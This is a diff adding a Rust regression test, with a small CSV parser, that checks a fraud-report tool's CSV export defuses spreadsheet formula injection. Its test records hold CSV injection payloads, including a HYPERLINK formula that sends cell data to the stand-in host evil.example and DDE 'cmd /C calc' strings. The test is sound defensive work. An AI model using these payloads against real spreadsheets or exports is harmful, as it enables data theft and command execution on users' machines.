@@ -443,3 +443,84 @@ fn purge_deletes_old_reports_everywhere_and_is_logged() {
         .success();
     assert_eq!(ndjson(&out.get_output().stdout).len(), 1);
 }
+
+/// The cells of a CSV text (RFC 4180: quoted cells, doubled quotes).
+fn csv_cells(text: &str) -> Vec<Vec<String>> {
+    let mut rows = vec![Vec::new()];
+    let mut cell = String::new();
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => rows.last_mut().unwrap().push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
+                rows.push(Vec::new());
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    rows.retain(|r| !r.is_empty());
+    rows
+}
+
+// See: issue 19
+#[test]
+fn issue_19_csv_export_turns_formulas_from_intake_fields_into_text() {
+    let app = TestApp::new();
+    let hostile = [
+        serde_json::json!({"id": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+            "filed_at": "2026-03-01T10:00:00Z", "unit": "=cmd|' /C calc'!A0",
+            "team": "@SUM(1+1)*cmd|' /C calc'!A0", "fraud_type": "+1;=2+3",
+            "narrative": "Hij appte vanaf 06-31415926 en vroeg om geld."}),
+        serde_json::json!({"id": "-2+3", "filed_at": "2026-03-02T10:00:00Z",
+            "unit": "Limburg;=1+1", "team": "\u{FF1D}1+1", "fraud_type": "marketplace",
+            "narrative": "Het nummer was 06 31 41 59 26."}),
+    ];
+    let input = app.data().join("hostile.ndjson");
+    std::fs::write(
+        &input,
+        hostile.iter().map(|r| format!("{r}\n")).collect::<String>(),
+    )
+    .unwrap();
+    app.cmd().arg("ingest").arg(&input).assert().success();
+    let out = app
+        .cmd()
+        .args(["export", "clusters", "--format", "csv"])
+        .assert()
+        .success();
+    let text = String::from_utf8(out.get_output().stdout.clone()).unwrap();
+    let rows = csv_cells(&text);
+    assert_eq!(rows.len(), 3, "a header and two reports: {text}");
+    let formula = |c: char| "=+-@\t\r\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".contains(c);
+    for row in &rows[1..] {
+        assert_eq!(row.len(), 9, "{row:?}");
+        // Report id, unit, team and fraud type: text cells.
+        for cell in [&row[3], &row[5], &row[6], &row[7]] {
+            assert!(
+                !cell.starts_with(formula),
+                "a spreadsheet would run {cell:?}"
+            );
+        }
+    }
+    for expected in [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "'=cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1;'=2+3",
+        "'-2+3",
+        "Limburg;'=1+1",
+        "'\u{FF1D}1+1",
+    ] {
+        assert!(
+            rows.iter().flatten().any(|c| c == expected),
+            "{expected:?} not in {rows:?}"
+        );
+    }
+}
